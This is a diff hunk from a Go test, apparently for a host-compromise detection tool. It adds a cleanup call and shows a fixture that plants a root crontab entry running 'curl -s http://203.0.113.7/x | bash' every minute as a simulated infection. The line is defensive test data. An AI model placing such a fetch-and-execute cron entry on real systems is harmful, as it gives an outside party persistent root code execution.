@@ -96,6 +96,7 @@ func TestBinary(t *testing.T) {
 		t.Errorf("missing root: err=%v stderr=%q stdout=%q", err, stderr.String(), stdout.String())
 	}
 	dir := t.TempDir()
+	t.Cleanup(func() { hosttest.ClearImmutable(dir) }) // 0550 /root
 	if err := hosttest.Write(dir, hosttest.AmazonLinux2023().Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | bash\n", hosttest.InfectionTime)); err != nil {
 		t.Fatal(err)
 	}
